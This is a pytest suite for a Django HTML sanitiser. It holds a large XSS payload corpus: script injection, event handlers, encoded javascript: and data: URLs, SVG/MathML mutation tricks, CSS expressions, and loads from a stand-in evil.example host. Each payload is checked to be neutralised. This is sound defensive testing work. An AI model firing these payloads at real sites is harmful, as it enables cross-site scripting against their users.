"""Tests for ``knowledgebase.sanitiser``: an XSS corpus, generated variants, and the behaviour we rely on.

The corpus is data: hand-written payloads per attack family plus combinatorial variants (every
dangerous scheme x every encoding, every event handler x many tags, ...). Every payload must come out
of ``sanitise_html`` satisfying the same invariants (:func:`assert_neutralised`), checked on two
parses of the output (``html.parser`` via BeautifulSoup, and html5lib as browsers parse) and on the
raw string, and ``sanitise_html`` must be idempotent on it.

Dangerous-looking *text* (``{{ }}``, ``&lt;script&gt;`` typed as entities) is a separate family: it is
kept as inert text, which the raw-string checks would wrongly flag, so it has its own assertions.
"""

import html
import random
import re
import time
from urllib.parse import urlsplit

from django import forms
from django.core.exceptions import ValidationError

import pytest
from bleach._vendor import html5lib
from bs4 import BeautifulSoup

from knowledgebase import sanitiser
from knowledgebase.sanitiser import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_PROTOCOLS,
    ALLOWED_TAGS,
    MAX_INPUT_LENGTH,
    MAX_NESTING_DEPTH,
    InputTooLongError,
    NestingTooDeepError,
    OutputTooLongError,
    PlainTextField,
    SanitisedHTMLField,
    sanitise_html,
    sanitise_text,
)

# --- The corpus --------------------------------------------------------------------------------------

SCRIPT_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script type='text/javascript'>alert(1)</script>",
    '<script src="https://evil.example/x.js"></script>',
    "<script src=//evil.example/x.js></script>",
    "<script/src=//evil.example/x.js></script>",
    "<script\nsrc=//evil.example/x.js>",
    "<script\t>alert(1)</script\t>",
    "<script >alert(1)</script >",
    "<script>alert(1)",
    "<script>alert(1)</script",
    "<script>alert(1)<!--",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script><script>alert(1)</script></script>",
    "<script>document.write('<p>injected</p>')</script><p>kept</p>",
    "<script>/*</script><p>after</p>*/alert(1)</script>",
    "<p>before<script>alert(1)</script>after</p>",
    "<ul><li><script>alert(1)</script>item</li></ul>",
    "<a href='https://example.org/'><script>alert(1)</script>link</a>",
    "<script defer async crossorigin>alert(1)</script>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    "<script>var s = '</scr' + 'ipt>'; alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js?<B>",
    "<script\x0c>alert(1)</script>",
    "<script/xss src=//evil.example/x.js></script>",
    "<svg><script>alert(1)</script></svg>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<noscript><script>alert(1)</script></noscript>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<noembed><script>alert(1)</script></noembed>",
    "<noframes><script>alert(1)</script></noframes>",
    "<style></style><script>alert(1)</script>",
]

EVENT_HANDLERS = [
    "onclick",
    "onerror",
    "onload",
    "onmouseover",
    "onfocus",
    "onanimationstart",
    "onpointerdown",
    "ontoggle",
    "onbegin",
    "onwheel",
]

# tag -> template; {h} is the handler attribute, {extra} what that handler needs to fire unprompted.
HANDLER_TAGS = {
    "p": "<p {h}{extra}>text</p>",
    "a": '<a href="https://example.org/" {h}{extra}>text</a>',
    "b": "<b {h}{extra}>text</b>",
    "i": "<i {h}{extra}>text</i>",
    "em": "<em {h}{extra}>text</em>",
    "strong": "<strong {h}{extra}>text</strong>",
    "li": "<ul><li {h}{extra}>text</li></ul>",
    "ol": "<ol {h}{extra}><li>text</li></ol>",
    "h2": "<h2 {h}{extra}>text</h2>",
    "h4": "<h4 {h}{extra}>text</h4>",
    "blockquote": "<blockquote {h}{extra}>text</blockquote>",
    "br": "text<br {h}{extra}>more",
    "img": "<img src=x {h}{extra}>",
    "body": "<body {h}{extra}>text</body>",
    "div": "<div {h}{extra}>text</div>",
    "span": "<span {h}{extra}>text</span>",
    "input": "<input {h}{extra}>",
    "details": "<details open {h}{extra}>text</details>",
    "video": "<video src=x {h}{extra}></video>",
    "marquee": "<marquee {h}{extra}>text</marquee>",
    "svg": "<svg {h}{extra}><animate attributeName=x dur=1s {h}></svg>",
}

HANDLER_EXTRAS = {"onfocus": " autofocus tabindex=1", "onanimationstart": ' style="animation-name:x"'}

HANDLER_SYNTAX = [
    '<h3 {h}="alert(1)">text</h3>',
    "<h3 {h}='alert(1)'>text</h3>",
    "<h3 {h}=alert(1)>text</h3>",
    "<h3/{h}=alert(1)>text</h3>",
    "<h3\n{h}=alert(1)>text</h3>",
    "<h3 {upper}=alert(1)>text</h3>",
    "<h3 x {h}=alert`1`>text</h3>",
    '<h3 {h}="&#97;lert(1)">text</h3>',
]

DANGEROUS_URLS = [
    "javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "livescript:alert(1)",
]


def _entities_decimal(text: str) -> str:
    return "".join(f"&#{ord(char)};" for char in text)


def _entities_hex(text: str) -> str:
    return "".join(f"&#x{ord(char):X};" for char in text)


def _entities_padded(text: str) -> str:
    return "".join(f"&#{ord(char):07d}" for char in text)  # no semicolons, zero padded


def _percent(text: str) -> str:
    return "".join(f"%{ord(char):02X}" for char in text)


def _scheme_part(url: str) -> tuple[str, str]:
    scheme, rest = url.split(":", 1)
    return scheme, rest


URL_ENCODINGS = {
    "plain": lambda url: url,
    "upper": lambda url: url.upper(),
    "mixed-case": lambda url: "".join(c.upper() if i % 2 else c for i, c in enumerate(url)),
    "leading-space": lambda url: "   " + url,
    "leading-controls": lambda url: "\x01\x02\x1f " + url,
    "tab-inside": lambda url: url[:2] + "\t" + url[2:],
    "newline-inside": lambda url: url[:3] + "\n" + url[3:],
    "cr-inside": lambda url: url[:4] + "\r" + url[4:],
    "null-inside": lambda url: url[:1] + "\x00" + url[1:],
    "decimal-entities": lambda url: _entities_decimal(_scheme_part(url)[0]) + ":" + _scheme_part(url)[1],
    "first-char-entity": lambda url: f"&#{ord(url[0])};" + url[1:],
    "hex-entities": lambda url: _entities_hex(_scheme_part(url)[0]) + ":" + _scheme_part(url)[1],
    "padded-entities-no-semicolon": lambda url: (
        _entities_padded(_scheme_part(url)[0]) + ":" + _scheme_part(url)[1]
    ),
    "colon-entity": lambda url: _scheme_part(url)[0] + "&colon;" + _scheme_part(url)[1],
    "tab-entity": lambda url: url[:3] + "&Tab;" + url[3:],
    "newline-entity": lambda url: url[:3] + "&NewLine;" + url[3:],
    "percent-encoded": lambda url: _percent(_scheme_part(url)[0]) + ":" + _scheme_part(url)[1],
    "percent-colon": lambda url: _scheme_part(url)[0] + "%3A" + _scheme_part(url)[1],
    "fullwidth": lambda url: "".join(chr(ord(c) + 0xFEE0) if c.isalpha() else c for c in url),
    "zero-width": lambda url: url[:4] + "\u200b" + url[4:],
    "soft-hyphen": lambda url: url[:4] + "&shy;" + url[4:],
}

URL_ATTRIBUTE_TEMPLATES = [
    '<a href="{url}">click</a>',
    "<a href='{url}'>click</a>",
    '<a title="t" href="{url}" target="_blank">click</a>',
]

URL_ELSEWHERE = [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=https://evil.example/></iframe>",
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"><param name=x value=y></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<applet code="Evil.class" codebase="https://evil.example/"></applet>',
    '<form action="javascript:alert(1)"><button>Send</button></form>',
    '<form><button formaction="javascript:alert(1)">Send</button></form>',
    '<form><input type=submit formaction="javascript:alert(1)" value=Send></form>',
    '<input type="image" src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<meta charset="x-imap4-modified-utf7">',
    '<base href="javascript:alert(1)//">',
    '<base href="https://evil.example/"><a href="/x">rel</a>',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<link rel="import" href="https://evil.example/x.html">',
    '<img src="javascript:alert(1)">',
    '<img srcset="javascript:alert(1) 1x">',
    '<video poster="javascript:alert(1)"></video>',
    '<audio src="javascript:alert(1)"></audio>',
    '<isindex action="javascript:alert(1)" type=image>',
    '<area href="javascript:alert(1)">',
    '<math href="javascript:alert(1)">CLICK</math>',
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>',
    '<a href="https://example.org/" ping="https://evil.example/">ping</a>',
    '<a href="https://example.org/" formaction="javascript:alert(1)">fa</a>',
]

SVG_MATH_PAYLOADS = [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><g onload=alert(1)></g></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><p onclick=alert(1)>fo</p></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<svg><image href=x onerror=alert(1)></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><p><style><img src=x onerror=alert(1)></p></svg>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
]

CSS_PAYLOADS = [
    "<style>body{background:url('javascript:alert(1)')}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>@import url(javascript:alert(1));</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<p style="width:expression(alert(1))">styled</p>',
    '<div style="behavior:url(https://evil.example/x.htc)">styled</div>',
    '<div style="-moz-binding:url(https://evil.example/x.xml#x)">styled</div>',
    '<span style="x:\\65 xpression(alert(1))">styled</span>',
    '<a href="https://example.org/" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>',
    "<style>*{x:expression(alert(1))}</style><p>after</p>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><ul><li>x</li></ul>',
]

COMMENT_PAYLOADS = [
    "<!--<script>alert(1)</script>-->",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><script>alert(1)</script>-->",
    "<!---><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![if !IE]><script>alert(1)</script><![endif]>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p><![CDATA[</p><script>alert(1)</script>]]></p>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<? echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    '<p title="<!--">text</p><!--"><script>alert(1)</script>-->',
    "<!--\x00--><script>alert(1)</script>",
]

MALFORMED_PAYLOADS = [
    '<a href="javascript:alert(1)"<b>x</b>',
    "<a href=javascript:alert(1)>x",
    "<a href=`javascript:alert(1)`>x</a>",
    "<a href='javascript:alert(1)'>x",
    '<a href = "javascript:alert(1)" >x</a>',
    '<a """><script>alert(1)</script>">',
    '<img """><script>alert(1)</script>">',
    "<img src=x onerror=alert(1)//",
    "<img src=`x` onerror=`alert(1)`>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img\nsrc=x\nonerror\n=\nalert(1)\n>",
    '"><script>alert(1)</script>',
    "'><svg onload=alert(1)>",
    "</p><script>alert(1)</script><p>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '<p title="</p><script>alert(1)</script>">x</p>',
    '<a href="https://example.org/" title="</a><script>alert(1)</script>">x</a>',
    '<a href="https://example.org/" title="&quot; onmouseover=alert(1) x=&quot;">x</a>',
    "<b <script>alert(1)</script>>bold</b>",
    "<b onclick=alert(1)//<b>x</b>",
    "<<b>>bold<</b>>",
    "<a href=https://example.org/ onclick=alert(1)//>x</a>",
    "<p\x0conclick=alert(1)>x</p>",
    "<div><p>unclosed<b>tags<i>everywhere",
    "<p>a</b></i></em></p></li></ul>",
    "<table><tr><td><script>alert(1)</script>cell</td></tr></table>",
    "<table><a href=javascript:alert(1)>foster</a><tr><td>x</td></tr></table>",
    "<select><option><script>alert(1)</script></option></select>",
    "<a href=https://example.org/><a href=javascript:alert(1)>nested</a></a>",
    "<ul><li><a href='https://example.org/'>a<li><a href=javascript:alert(1)>b</ul>",
    "<a href='https://example.org/'>\n<h2 onclick=alert(1)>block in link</h2></a>",
    "<x onclick=alert(1)>custom</x>",
    "<custom-element onclick=alert(1)>custom</custom-element>",
    "<h1 onclick=alert(1)>big</h1><h5>small</h5>",
    "<button onclick=alert(1)>press</button>",
    "<dialog open onclose=alert(1)>dlg</dialog>",
    "<keygen autofocus onfocus=alert(1)>",
    "<frameset onload=alert(1)>",
    "<html onmouseover=alert(1)><body>x</body></html>",
]

TEMPLATE_TEXT = [
    "{{ 7*7 }}",
    "{% debug %}",
    "{{ request.user.password }}",
    "{% load static %}{% static 'x' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "[[ 7*7 ]] {{ '' | safe }}",
]

UNICODE_PAYLOADS = [
    "<scr\x00ipt>alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "<img src=x o\x00nerror=alert(1)>",
    "<b o\x00nclick=alert(1)>x</b>",
    '<a href="java\x00script:alert(1)">x</a>',
    "\x00<script>alert(1)</script>\x00",
    "\ufeff<script>alert(1)</script>",
    "\u202e<b>reversed</b>\u202c text",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    '<a href="https://ex\u0430mple.org/">homoglyph host</a>',
    '<a href="\u0237avascript:alert(1)">dotless</a>',
    '<a href="javascript\u2028:alert(1)">ls</a>',
    '<a href="javascript\u00a0:alert(1)">nbsp</a>',
    "<\u0455cript>alert(1)</\u0455cript>",
    "\x1b[31mred\x1b[0m <b>ansi</b>",
    "<p>\ud800lone surrogate</p>",
]

LONG_PAYLOADS = [
    "<b>" * 60 + "deep" + "</b>" * 60,
    "<blockquote>" * 40 + "quote" + "</blockquote>" * 40,
    "<ul><li>" * 30 + "list",
    "<a href='https://example.org/'>" * 300 + "many links",
    "<p>" + "x" * 20_000 + "</p>",
    "<p onclick=alert(1)>p</p>" * 2_000,
    "<script>" + "a" * 20_000 + "</script><p>after</p>",
    "<i>" * 99 + "<script>alert(1)</script>",
]


def _build_corpus() -> list[tuple[str, str]]:
    """Every payload with an id, hand-written families first, then the combinatorial ones."""
    cases: list[tuple[str, str]] = []
    families = {
        "script": SCRIPT_PAYLOADS,
        "url-elsewhere": URL_ELSEWHERE,
        "svg-math": SVG_MATH_PAYLOADS,
        "css": CSS_PAYLOADS,
        "comment": COMMENT_PAYLOADS,
        "malformed": MALFORMED_PAYLOADS,
        "unicode": UNICODE_PAYLOADS,
        "long": LONG_PAYLOADS,
    }
    for family, payloads in families.items():
        cases += [(f"{family}-{index}", payload) for index, payload in enumerate(payloads)]
    for handler in EVENT_HANDLERS:
        extra = HANDLER_EXTRAS.get(handler, "")
        for tag, template in HANDLER_TAGS.items():
            payload = template.format(h=f"{handler}=alert(1)", extra=extra)
            cases.append((f"handler-{handler}-{tag}", payload))
        for index, template in enumerate(HANDLER_SYNTAX):
            payload = template.format(h=handler, upper=handler.upper())
            cases.append((f"handler-syntax-{handler}-{index}", payload))
    for url_index, url in enumerate(DANGEROUS_URLS):
        for encoding, encode in URL_ENCODINGS.items():
            for template_index, template in enumerate(URL_ATTRIBUTE_TEMPLATES):
                if template_index and encoding not in {"plain", "decimal-entities", "tab-inside"}:
                    continue  # other quoting styles only for a few encodings
                payload = template.format(url=encode(url))
                cases.append((f"url-{url_index}-{encoding}-{template_index}", payload))
    return cases


CORPUS = _build_corpus()
CORPUS_PARAMS = [pytest.param(payload, id=case_id) for case_id, payload in CORPUS]


# --- Invariants --------------------------------------------------------------------------------------

RAW_FORBIDDEN = ("<script", "javascript:", "onerror", "&lt;script")
HREF_FORBIDDEN = ("javascript", "vbscript", "data:")
_INVISIBLE = re.compile(r"[\s\x00-\x1f\x7f-\xa0\u00ad\u200b-\u200f\u2060\ufeff]+")


def _html5lib_elements(output: str) -> list[tuple[str, dict[str, str]]]:
    """Elements of ``output`` as a browser's parser sees them."""
    fragment = html5lib.parseFragment(output, treebuilder="etree", namespaceHTMLElements=False)
    return [(str(el.tag), dict(el.attrib)) for el in fragment.iter() if el is not fragment]


def assert_neutralised(output: str) -> None:
    """The safety invariants every sanitised output must satisfy."""
    soup = BeautifulSoup(output, "html.parser")
    for element in soup.find_all(True):
        assert element.name in ALLOWED_TAGS, element.name
        allowed = {"href", "title", "rel"} if element.name == "a" else set()
        assert set(element.attrs) <= allowed, (element.name, element.attrs)
        assert not any(name.lower().startswith("on") for name in element.attrs)
        if element.name == "a":
            href = element.get("href")
            assert href, "a link without href should have been unwrapped"
            assert urlsplit(href.strip()).scheme.lower() in ALLOWED_PROTOCOLS, href
            squashed = _INVISIBLE.sub("", html.unescape(href)).lower()
            assert not any(bad in squashed for bad in HREF_FORBIDDEN), href
            assert {"nofollow", "noopener"} <= set(element.get("rel", [])), element
    for tag, attrs in _html5lib_elements(output):
        assert tag in ALLOWED_TAGS, tag
        assert set(attrs) <= ({"href", "title", "rel"} if tag == "a" else set()), (tag, attrs)
    lowered = output.lower()
    for forbidden in RAW_FORBIDDEN:
        assert forbidden not in lowered, forbidden
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", output)


def test_corpus_is_large_and_distinct():
    payloads = [payload for _case_id, payload in CORPUS]
    assert len(set(payloads)) == len(payloads)
    assert len({case_id for case_id, _payload in CORPUS}) == len(CORPUS)
    assert len(payloads) >= 220


@pytest.mark.parametrize("payload", CORPUS_PARAMS)
def test_payload_is_neutralised(payload):
    output = sanitise_html(payload)
    assert_neutralised(output)
    assert sanitise_html(output) == output, "sanitise_html must be idempotent"


@pytest.mark.parametrize("payload", CORPUS_PARAMS)
def test_payload_as_plain_text(payload):
    output = sanitise_text(payload)
    # No sequence a parser would read as a tag, comment or doctype survives, and nothing to escape twice.
    assert not re.search(r"<[a-zA-Z!/?]", output), output
    assert "<script" not in output.lower()
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", output)
    assert output == output.strip()
    assert sanitise_text(output) == output, "sanitise_text must be idempotent"


@pytest.mark.parametrize("handler", EVENT_HANDLERS)
def test_handlers_are_removed_but_allowed_text_stays(handler):
    output = sanitise_html(f'<p {handler}="alert(1)">Hola <b {handler}=alert(1)>mundo</b></p>')
    assert output == "<p>Hola <b>mundo</b></p>"


@pytest.mark.parametrize("url", DANGEROUS_URLS)
@pytest.mark.parametrize("encoding", sorted(URL_ENCODINGS))
def test_dangerous_links_lose_the_link_but_keep_their_text(url, encoding):
    output = sanitise_html(f'<p><a href="{URL_ENCODINGS[encoding](url)}">click</a></p>')
    assert output == "<p>click</p>"


# --- Containers removed with their content -----------------------------------------------------------


VOID_OR_IGNORED = {"base", "embed", "frame", "input", "keygen", "link", "meta", "param", "source", "track"}
# <head> and <frameset> are ignored by the parser in a fragment; <plaintext> never ends (tested below).
CONTAINERS = sorted(sanitiser.DROP_WITH_CONTENT_TAGS - VOID_OR_IGNORED - {"head", "frameset", "plaintext"})


@pytest.mark.parametrize("tag", CONTAINERS)
@pytest.mark.parametrize("case", ["lower", "upper", "spaced", "attributes"])
def test_dangerous_containers_are_removed_with_their_content(tag, case):
    name = tag.upper() if case == "upper" else tag
    start = f"<{name} id=x\n data-a='1'>" if case == "attributes" else f"<{name}>"
    end = f"</{name}\t >" if case == "spaced" else f"</{name}>"
    # <x-y> rather than <b>: HTML elements such as <b> break out of <svg>/<math> (so would a browser).
    output = sanitise_html(f"<p>before</p>{start}SECRET <x-y>hidden</x-y>{end}<p>after</p>")
    assert output == "<p>before</p><p>after</p>"


@pytest.mark.parametrize("tag", sorted(VOID_OR_IGNORED))
def test_void_elements_vanish_with_their_attributes(tag):
    output = sanitise_html(f'<p>a<{tag} src="https://evil.example/" href="x" content="0;url=x">b</p>')
    assert output == "<p>ab</p>"


def test_plaintext_swallows_everything_after_it():
    assert sanitise_html("<p>before</p><plaintext>everything</p><p>else") == "<p>before</p>"


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        ("<div>un</div><div>dos</div>", "<p>un</p><p>dos</p>"),
        (
            "<section><h1>Título</h1><div>Texto <span>largo</span></div></section>",
            "<p>Título</p><p>Texto largo</p>",
        ),
        ("<table><tr><td>a</td><td>b</td></tr></table>", "<p>a</p><p>b</p>"),
        ("<blockquote><div>a</div><div>b</div></blockquote>", "<blockquote><p>a</p><p>b</p></blockquote>"),
        ("<div>intro<p>para</p>tail</div>", "<p>intro</p><p>para</p><p>tail</p>"),
        ("<font color=red>red</font> <u>under</u>", "<p>red under</p>"),
    ],
)
def test_layout_markup_becomes_paragraphs(payload, expected):
    assert sanitise_html(payload) == expected


# --- Dangerous-looking text is kept as inert text ----------------------------------------------------


@pytest.mark.parametrize("text", TEMPLATE_TEXT)
def test_template_syntax_is_kept_as_text(text):
    output = sanitise_html(text)
    assert output == f"<p>{html.escape(text, quote=False)}</p>"
    assert BeautifulSoup(output, "html.parser").get_text() == text
    assert sanitise_text(text) == text or text.startswith("<%")
    assert sanitise_html(output) == output


def test_escaped_markup_typed_as_text_stays_escaped():
    output = sanitise_html("Write &lt;script&gt; to start a script")
    assert output == "<p>Write &lt;script&gt; to start a script</p>"
    assert BeautifulSoup(output, "html.parser").find("script") is None
    assert sanitise_html(output) == output


def test_scheme_names_in_prose_are_text():
    output = sanitise_html("Never paste javascript: links")
    assert output == "<p>Never paste javascript: links</p>"
    assert BeautifulSoup(output, "html.parser").find("a") is None


# --- Allowed markup ----------------------------------------------------------------------------------

EXACT = [
    "<p>Hello <strong>bold</strong>, <em>emphasis</em>, <b>b</b> and <i>i</i>.</p>",
    "<ul><li>One</li><li>Two</li></ul>",
    "<ol><li>First</li><li>Second <em>item</em></li></ol>",
    "<ul><li>Outer<ul><li>Inner</li></ul></li></ul>",
    "<h2>Section</h2><h3>Sub-section</h3><h4>Detail</h4>",
    "<blockquote>Quoted words</blockquote>",
    "<blockquote><p>Quoted paragraph</p></blockquote>",
    "<p>line<br>break</p>",
    "<p>One</p>\n<p>Two</p>",
    "<h2>Title</h2><p>Body with <strong><em>nesting</em></strong>.</p>",
]


@pytest.mark.parametrize("markup", EXACT)
def test_allowed_markup_survives_exactly(markup):
    assert sanitise_html(markup) == markup


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        (
            '<a href="https://example.org/a?b=1&amp;c=2">x</a>',
            '<p><a href="https://example.org/a?b=1&amp;c=2" rel="nofollow noopener">x</a></p>',
        ),
        (
            '<p><a href="http://example.org">x</a></p>',
            '<p><a href="http://example.org" rel="nofollow noopener">x</a></p>',
        ),
        (
            '<p><a href="mailto:info@example.org">write</a></p>',
            '<p><a href="mailto:info@example.org" rel="nofollow noopener">write</a></p>',
        ),
        (
            '<p><a href="https://example.org/" title="Sitio &amp; más" target="_blank" rel=opener>x</a></p>',
            '<p><a href="https://example.org/" title="Sitio &amp; más" rel="nofollow noopener">x</a></p>',
        ),
        (
            '<p><a href="  https://example.org/\n">x</a></p>',
            '<p><a href="https://example.org/" rel="nofollow noopener">x</a></p>',
        ),
        (
            '<p><a href="HTTPS://EXAMPLE.ORG/">x</a></p>',
            '<p><a href="HTTPS://EXAMPLE.ORG/" rel="nofollow noopener">x</a></p>',
        ),
        (  # the word in a path is not a scheme
            '<p><a href="https://developer.mozilla.org/docs/JavaScript">MDN</a></p>',
            '<p><a href="https://developer.mozilla.org/docs/JavaScript" rel="nofollow noopener">MDN</a></p>',
        ),
    ],
)
def test_safe_links_keep_href_and_get_rel(payload, expected):
    assert sanitise_html(payload) == expected
    assert sanitise_html(expected) == expected


@pytest.mark.parametrize(
    "href",
    [
        "/en/practices/",
        "practices/x",
        "#section",
        "//evil.example/",
        "\\\\evil.example/",
        "https:evil.example",
        "https:/\\evil.example",
        "https:///evil.example",
        "http://",
        "mailto:",
        "ftp://example.org/",
        "file:///etc/passwd",
        "https://example.org/?next=javascript:alert(1)",
        "https://example.org/?next=%6Aavascript%3Aalert(1)",
        "",
    ],
)
def test_relative_and_odd_hrefs_are_dropped_and_the_link_unwrapped(href):
    assert sanitise_html(f'<p>see <a href="{href}">this</a></p>') == "<p>see this</p>"


def test_links_without_text_disappear():
    assert sanitise_html('<p>a<a href="https://example.org/"> </a>b</p>') == "<p>a b</p>"
    assert sanitise_html('<a href="https://example.org/"></a>') == ""


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        ("Hello world", "<p>Hello world</p>"),
        ("  Hello world  ", "<p>Hello world</p>"),
        ("a<br>b", "<p>a<br>b</p>"),
        ("intro <b>bold</b><p>para</p>outro", "<p>intro <b>bold</b></p><p>para</p><p>outro</p>"),
        ("<li>loose</li><li>items</li>", "<ul><li>loose</li><li>items</li></ul>"),
        ("<h2>T</h2>\ntext\n<p>p</p>", "<h2>T</h2>\n<p>text</p>\n<p>p</p>"),
        ("<br><p>x</p><br><br>", "<p>x</p>"),
    ],
)
def test_loose_content_is_wrapped_in_blocks(payload, expected):
    assert sanitise_html(payload) == expected


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        (
            "Seguridad ciudadana en São Paulo: ¿qué funcionó? Ações & políticas < 5% — año",
            "<p>Seguridad ciudadana en São Paulo: ¿qué funcionó? Ações &amp; políticas &lt; 5% — año</p>",
        ),
        ("<p>Prevenção &amp; participação</p>", "<p>Prevenção &amp; participação</p>"),
        ("<p>Bogot&aacute; y Medell&iacute;n</p>", "<p>Bogotá y Medellín</p>"),
        ("<p>AT&T; 3 &gt; 2 &amp;&amp; 1 &lt; 2</p>", "<p>AT&amp;T; 3 &gt; 2 &amp;&amp; 1 &lt; 2</p>"),
        ("<p>«Comunidades» “seguras” — 100 %</p>", "<p>«Comunidades» “seguras” — 100 %</p>"),
    ],
)
def test_accented_prose_and_special_characters_are_preserved(payload, expected):
    output = sanitise_html(payload)
    assert output == expected
    assert sanitise_html(output) == output


@pytest.mark.parametrize(
    "payload",
    [
        None,
        "",
        "   \n\t",
        "<p></p>",
        "<p> </p>",
        "<script>x</script>",
        "\x00\x01\x02",
        "<br><br>",
        "<!-- only a comment -->",
        "<div><span></span></div>",
        "<a href='https://example.org/'></a>",
    ],
)
def test_empty_results_collapse_to_empty_string(payload):
    assert sanitise_html(payload) == ""
    assert sanitise_text(payload) == ""


def test_non_breaking_spaces_alone_are_empty_rich_text():
    assert sanitise_html("<p>&nbsp;</p><p>\u00a0</p>") == ""
    assert sanitise_text("<p>&nbsp;</p>") == "&nbsp;"  # plain text keeps entities as typed


def test_control_and_bidi_characters_are_stripped():
    assert sanitise_html("a\x00b\x07c\x1bd\u202ee\ufeff") == "<p>abcde</p>"
    assert sanitise_text("a\x00b\x07c\u2066d\r\ne") == "abcd\ne"


# --- Limits ------------------------------------------------------------------------------------------


def test_max_length_applies_to_sanitised_output():
    assert sanitise_html("<p>abc</p>", max_length=10) == "<p>abc</p>"
    with pytest.raises(OutputTooLongError, match="maximum is 9") as caught:
        sanitise_html("<p>abc</p>", max_length=9)
    assert isinstance(caught.value, ValueError)
    # Stripped markup does not count: 30 raw characters, 10 sanitised ones.
    assert sanitise_html("<script>xxxxxxxxxxx</script>abc", max_length=10) == "<p>abc</p>"


def test_raw_input_is_refused_before_parsing():
    with pytest.raises(InputTooLongError):
        sanitise_html("x" * (MAX_INPUT_LENGTH + 1))
    with pytest.raises(InputTooLongError, match="at most 100"):
        sanitise_html("x" * 101, max_length=10)
    with pytest.raises(InputTooLongError):
        sanitise_text("x" * 101, max_length=10)
    assert sanitise_text("x" * 100, max_length=100) == "x" * 100


@pytest.mark.parametrize(
    "opener", ["<div>", "<b>", "<blockquote>", "<ul><li>", "<table><tr><td>", "<svg><g>"]
)
def test_deep_nesting_is_refused_quickly(opener):
    started = time.monotonic()
    with pytest.raises(NestingTooDeepError):
        sanitise_html(opener * (MAX_INPUT_LENGTH // len(opener)))
    assert time.monotonic() - started < 5


def test_nesting_up_to_the_limit_is_fine():
    depth = MAX_NESTING_DEPTH - 5
    assert sanitise_html("<b>" * depth + "x") == "<p>" + "<b>" * depth + "x" + "</b>" * depth + "</p>"


def test_large_flat_input_is_handled():
    payload = "<p>Párrafo con <b>negrita</b> &amp; texto.</p>" * 1_000
    output = sanitise_html(payload)
    assert output == payload


def test_output_never_exceeds_what_is_accepted_as_input():
    # Wrapping in <p> and escaping make output longer than input; at the ceiling that must be an error,
    # not an output that sanitise_html would then refuse (idempotence at the boundary).
    with pytest.raises(OutputTooLongError):
        sanitise_html("x" * MAX_INPUT_LENGTH)
    fits = "x" * (MAX_INPUT_LENGTH - len("<p></p>"))
